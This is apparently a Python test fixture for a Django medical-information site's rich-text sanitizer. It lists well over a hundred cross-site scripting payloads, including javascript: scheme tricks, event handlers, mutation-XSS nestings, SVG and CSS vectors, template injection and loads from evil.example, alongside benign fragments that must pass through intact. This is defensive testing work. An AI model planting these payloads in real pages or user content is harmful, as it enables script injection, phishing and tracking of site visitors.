"""Fragments that try to run something, or to reach somewhere, through rich text; and honest ones that must come through whole."""

from datetime import date

from django.core.files.base import ContentFile
from django.core.files.storage import default_storage

from procedures.models import (
    Block,
    BlockFigure,
    Edition,
    Figure,
    GlossaryTerm,
    Illustration,
    RedFlagCard,
    Source,
    Video,
)
from procedures.richtext import clean
from tests import factories

LONGEST_BODY = 2000  # letters: several fragments to a body, and several bodies

# What an address may start with to run something, spelt in the ways that browsers have read it.
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\x00script:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "javascript://example.test/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "mhtml:https://evil.example/x.mht",
    "ws://evil.example/",
]
HANDLERS = [
    *(
        "onclick",
        "onload",
        "onerror",
        "onfocus",
        "onmouseover",
        "onanimationstart",
        "onanimationend",
        "ontransitionend",
    ),
    *(
        "ontoggle",
        "onbeforetoggle",
        "onpointerenter",
        "onpointerrawupdate",
        "onwheel",
        "onscroll",
        "onscrollend",
        "oncopy",
    ),
    *(
        "onpaste",
        "oninput",
        "onbeforeinput",
        "onsecuritypolicyviolation",
        "oncontentvisibilityautostatechange",
        "ONCLICK",
    ),
]

HOSTILE = [
    *(f'<a href="{scheme}">Read more</a>' for scheme in SCHEMES),
    *(f'<p {handler}="alert(1)" tabindex="0" autofocus>Rest</p>' for handler in HANDLERS),
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script src='data:,alert(1)'></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script>",
    '<script x=">" src=https://evil.example/x.js></script>',
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</p></div></main><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<script type="importmap">{"imports":{"x":"https://evil.example/"}}</script>',
    '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    # pictures and media
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src='https://evil.example/p.gif'>",
    "<img srcset='https://evil.example/p.gif 1x'>",
    "<img lowsrc='javascript:alert(1)'>",
    "<img dynsrc='javascript:alert(1)'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset='https://evil.example/p.avif'><img src=x onerror=alert(1)></picture>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster='javascript:alert(1)'></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src='https://evil.example/a.mp3' autoplay></audio>",
    "<audio src=x onerror=alert(1)></audio>",
    "<track src='https://evil.example/t.vtt'>",
    "<input type=image src=x onerror=alert(1)>",
    "<bgsound src='javascript:alert(1)'>",
    "<body background='https://evil.example/b.gif' onload=alert(1)>",
    "<table background='javascript:alert(1)'><tr><td background='https://evil.example/t.gif'>Rest</td></tr></table>",
    # svg and math
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='https://evil.example/x.js'/></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text y='20'>Rest</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
    "<svg><image href='https://evil.example/p.gif'/></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><a xlink:href='javascript:alert(1)'>Rest</a></math>",
    "<math href='javascript:alert(1)'>Rest</math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><maction actiontype='statusline#https://evil.example' xlink:href='javascript:alert(1)'>Rest</maction></math>",
    # mutation
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    '<p id="</p><img src=x onerror=alert(1)>">Rest</p>',
    "<table><td><svg><desc><table><img src=x onerror=alert(1)></table></desc></svg></td></table>",
    "<ul><li><table><tr><li><svg><style><img src=x onerror=alert(1)></style></svg></table></ul>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div><template shadowrootmode='open'><img src=x onerror=alert(1)></template></div>",
    "&lt;img src=x onerror=alert(1)&gt;<abbr title='&lt;img src=x onerror=alert(1)&gt;'>MRI</abbr>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>MRI</abbr>",
    "<abbr title=\"' onmouseover='alert(1)\">MRI</abbr>",
    "<th scope='\"><img src=x onerror=alert(1)>'>Day</th>",
    "<table><tr><th scope='col\" onclick=\"alert(1)'>Day</th></tr></table>",
    # frames, objects, forms, documents
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<object classid='clsid:1'><param name=url value='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<embed src='https://evil.example/x.swf' allowscriptaccess=always>",
    "<applet code='x' codebase='https://evil.example/'></applet>",
    "<portal src='https://evil.example/'></portal>",
    "<fencedframe src='https://evil.example/'></fencedframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href='https://evil.example/'>",
    "<base href='javascript:/a/-alert(1)///////'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=import href='https://evil.example/x.html'>",
    "<link rel=prefetch href='https://evil.example/'>",
    "<link rel=modulepreload href='https://evil.example/x.js'>",
    "<form action='https://evil.example/'><button>Save</button></form>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<button formaction='javascript:alert(1)'>Save</button>",
    "<button form=content formaction='https://evil.example/'>Save</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input form=edition_form name=lead value=pwned>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<details open ontoggle=alert(1)><summary>Rest</summary></details>",
    "<dialog open onclose=alert(1)><form method=dialog><button>Rest</button></form></dialog>",
    "<marquee onstart=alert(1)>Rest</marquee>",
    "<a href='/admin/logout/' ping='https://evil.example/'>Read on</a>",
    "<a href='https://evil.example/' target=_blank rel=opener>Read on</a>",
    "<area href='javascript:alert(1)' shape=rect coords='0,0,99,99'>",
    "<map name=x><area href='javascript:alert(1)'></map><img usemap=#x>",
    # style
    "<style>body{background:url(https://evil.example/b.gif)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/b.gif)'>Rest</p>",
    "<p style='width:expression(alert(1))'>Rest</p>",
    "<p style='behavior:url(https://evil.example/x.htc)'>Rest</p>",
    "<p style='-moz-binding:url(https://evil.example/x.xml#a)'>Rest</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>Log in again</p>",
    "<xss style='xss:expression(alert(1))'>",
    "<style>*{animation:x 1s}@keyframes x{}</style><p onanimationstart=alert(1)>Rest</p>",
    '<div style="color:red;x:\';</style><script>alert(1)</script>">Rest</div>',
    # clobbering and page furniture
    "<a id=django name=jQuery href='https://evil.example/'>Rest</a>",
    "<form id=document name=cookie><input name=attributes></form>",
    "<img name=getElementById><img id=body>",
    "<p id=content>Rest</p><p id=main>Rest</p>",
    "<button popovertarget=x onbeforetoggle=alert(1)>Rest</button><p id=x popover>Rest</p>",
    "<p popover id=y>Rest</p><button popovertarget=y popovertargetaction=show>Rest</button>",
    "<p contenteditable oninput=alert(1)>Rest</p>",
    "<p accesskey=x onclick=alert(1)>Rest</p>",
    "<p class='deletelink submit-row' data-rich-text='{}' data-pick=x data-reorder>Rest</p>",
    "<slot onslotchange=alert(1)>Rest</slot>",
    "<x-evil is=x-evil onfocus=alert(1) tabindex=1>Rest</x-evil>",
    # templates, comments, entities, encodings
    "{{ 7|add:7 }}{% csrf_token %}{{ request.user.password }}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'alert(1)'>]>&x;",
    "<!ENTITY % x SYSTEM 'https://evil.example/x.dtd'>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<p>\u202e<script>alert(1)</script>\u202c</p>",
    "<p title='\u0000' onclick\u0000=alert(1)>Rest</p>",
    "<p/onclick=alert(1)/>Rest",
    "<p\x0conclick=alert(1)>Rest",
    '<a href="https://evil.example/" onclick=alert(1)',
    "<a href='  \x0e  javascript:alert(1)'>Rest",
    "<a href=javas&#99;ript:alert(1)>Rest</a>",
    '<a href="\\u006aavascript:alert(1)">Rest</a>',
    "<a href='//evil.example/%0d%0aSet-Cookie:x=1'>Read on</a>",
    "<" * 400 + "img src=x onerror=alert(1)>",
    "<p>" * 300 + "<img src=x onerror=alert(1)>",
]

HONEST = [
    "<p>Plain words.</p>",
    "<p>One.</p><p>Two.</p>",
    "<p>First line<br>second line</p>",
    "<p><strong>30 to 60 minutes</strong></p><p>More bones take longer.</p>",
    "<p><b>Home that day</b></p>",
    "<p>Do <em>not</em> lift.</p>",
    "<p><strong>Very <em>much</em> so</strong></p>",
    "<p>H<sub>2</sub>O and CO<sub>2</sub></p>",
    "<p>10 cm<sup>2</sup> and 1.2 g/cm<sup>3</sup></p>",
    "<p>x<sup>2</sup><sub>n</sub></p>",
    "<h4>The first night</h4><p>Rest.</p>",
    "<h4>After <em>two</em> weeks</h4>",
    "<ul><li>one</li><li>two</li></ul>",
    "<ol><li>first</li><li>second</li></ol>",
    "<ul><li>one<ul><li>inner</li></ul></li></ul>",
    "<ol><li>first<ul><li>inner</li><li>other</li></ul></li><li>second</li></ol>",
    '<ul><li>take <strong>two</strong></li><li>see <a href="#risks">the risks</a></li></ul>',
    "<ul><li><p>First thought.</p><p>Second thought.</p></li></ul>",
    "<p>Before.</p><ul><li>one</li></ul><p>After.</p>",
    '<p>See <a href="/procedures/mri-scan/">the MRI scan</a>.</p>',
    '<p><a href="https://www.nhs.example/page?x=1&amp;y=2#part">NHS page</a></p>',
    '<p><a href="http://plain.example/">An older page</a></p>',
    '<p>Ring <a href="tel:+441632960100">01632 960100</a> or <a href="tel:999">999</a>.</p>',
    '<p><a href="mailto:team@elmpark.example">Write to us</a></p>',
    '<p><a href="#no-operation"><strong>No operation</strong></a></p>',
    '<p><abbr title="Magnetic resonance imaging">MRI</abbr> shows swelling.</p>',
    '<p>Ask your <abbr title="General practitioner">GP</abbr> or <abbr title="Accident and Emergency">A&amp;E</abbr>.</p>',
    "<p>Less than 1&nbsp;mm, more than 5 &lt; 6 &gt; 4 &amp; so on.</p>",
    "<p>“Quoted”, ‘single’, café, 38 °C, ½, µg, ≥ 65, β, –, …</p>",
    "<p>مرحبا and עברית, 中文, 🙂</p>",
    "<table><tbody><tr><td>a</td><td>b</td></tr></tbody></table>",
    '<table><thead><tr><th scope="col">Day</th><th scope="col">Do</th></tr></thead><tbody><tr><td>One</td><td>Rest</td></tr></tbody></table>',
    '<table><tbody><tr><th scope="row">Day one</th><td>Rest</td></tr><tr><th scope="row">Day two</th><td>Walk</td></tr></tbody></table>',
    '<table><caption>When to do what</caption><thead><tr><th scope="col">Day</th><th scope="col">Do</th></tr></thead>'
    '<tbody><tr><th scope="row">One</th><td>Rest</td></tr></tbody></table>',
    "<table><caption>Dose in mg/m<sup>2</sup>, <em>by day</em></caption><tbody><tr><td>1</td><td>2</td></tr></tbody></table>",
    '<table><thead><tr><td></td><th scope="col">Pain</th></tr></thead><tbody><tr><th scope="row">Before</th><td>8</td></tr></tbody></table>',
    "<p>Before.</p><table><tbody><tr><td>a<br>b</td><td><strong>c</strong></td></tr></tbody></table><p>After.</p>",
    "<table><tbody><tr><td><ul><li>one</li><li>two</li></ul></td><td><p>One.</p><p>Two.</p></td></tr></tbody></table>",
    '<table><tbody><tr><td>See <a href="#risks">the risks</a></td><td><abbr title="General practitioner">GP</abbr></td></tr></tbody></table>',
    '<p>One.</p><h4>Two</h4><ol><li>Three <sub>a</sub></li></ol><table><tbody><tr><th scope="row">Four</th><td>4</td></tr></tbody></table><p>Five.</p>',
]


def in_bodies(fragments: list[str]) -> list[str]:
    """All of the fragments in few bodies of rich text. One that would swallow what follows it stands last in its own."""
    bodies, body = [], ""
    for fragment in fragments:
        body += f"<p>Next</p>{fragment}"
        if _swallows(fragment) or len(body) > LONGEST_BODY:
            bodies.append(body)
            body = ""
    return [*bodies, body]


def _swallows(fragment: str) -> bool:
    """Whether what is written after it is read as a part of it."""
    after = "<p>After</p>"
    return clean(fragment + after) != clean(fragment) + after


def in_lines(fragments: list[str], longest: int) -> list[str]:
    """All of the fragments in few lines of plain text; one that is longer than a line is cut off."""
    lines = [""]
    for fragment in fragments:
        words = fragment.replace("\0", "")[:longest]
        if len(lines[-1]) + len(words) > longest:
            lines.append("")
        lines[-1] += words
    return lines


def poisoned_draft(fragments: list[str]) -> Edition:
    """A draft that carries every fragment in every field that reaches a page: rich text, and plain text of every sort."""
    plain = [fragment.replace("\0", "") for fragment in fragments]
    draft = factories.draft(
        procedure=factories.procedure(slug="poisoned", name="Poisoned procedure"),
        lead="".join(plain)[:300],
        description=f"</script><script>alert(1)</script>{plain[0]}"[:155],
        is_first_text=True,
    )
    file = default_storage.save("pictures/film.webp", ContentFile(b"a file"))
    bodies, lines = in_bodies(fragments), in_lines(fragments, 120)
    terms = in_lines(fragments, 300)
    hard_words = "".join(f"<p>Elmword{number}</p>" for number in range(len(terms)))
    blocks = [
        Block(kind="section", heading="All of it", anchor="all"),
        Block(kind="text", body=hard_words),
    ]
    blocks += [Block(kind="text", body=body) for body in bodies]
    blocks += [Block(kind="faq", heading=line, body="<p>It may.</p>") for line in lines]
    blocks += [
        Block(kind="text", body="<p>A picture.</p>", illustration=_picture(number, line))
        for number, line in enumerate(in_lines(fragments, 300))
    ]
    blocks += [
        Block(kind="risk", heading="Risk", body="<p>It may.</p>", why_they_differ=line) for line in lines
    ]
    blocks.append(Block(kind="video", video=_film(fragments, file)))
    for number, body in enumerate(bodies):
        _card(number, body, lines[number % len(lines)])
    for number, line in enumerate(lines):
        _card(len(bodies) + number, "", line)
    GlossaryTerm.objects.bulk_create(
        GlossaryTerm(term=f"Elmword{number}", slug=f"elmword{number}", definition=line)
        for number, line in enumerate(terms)
    )
    for position, block in enumerate(blocks, 1):
        block.edition, block.position = draft, position
    Block.objects.bulk_create(blocks)
    for number, block in enumerate(one for one in blocks if one.kind == "risk"):
        figure = _figure(number, lines[number])
        BlockFigure.objects.create(block=block, figure=figure)
        block.sources.add(figure.source)
    return draft


def _picture(number: int, words: str) -> Illustration:
    return factories.illustration(
        key=f"picture-{number}", alt=words[:300], caption=words[:300], key_lines=words
    )


def _card(number: int, rich: str, words: str) -> None:
    RedFlagCard.objects.create(
        level="now",
        heading=words[:120],
        body=f"<ul><li>both legs are weak</li></ul>{rich}",
        position=1000 + number,
    )


def _figure(number: int, words: str) -> Figure:
    source = Source.objects.create(
        key=f"source-{number}",
        title=words[:250],
        publisher=words[:120],
        url=f"https://press.example/{number}?{words[:200]}",
        checked_on=date(2026, 9, 1),
    )
    return Figure.objects.create(
        key=f"figure-{number}",
        shape="proportion",
        what=words[:200],
        counted="people",
        count=7,
        out_of=100,
        setting=words[:200],
        quality=words[:300],
        source=source,
    )


def _film(fragments: list[str], file: str) -> Video:
    return Video.objects.create(
        key="poisoned",
        title=fragments[0][:150],
        mp4=file,
        poster=file,
        captions=file,
        transcript="".join(f"<p>Next</p>{clean(fragment)}" for fragment in fragments),
        seconds=60,
        width=960,
        height=540,
    )
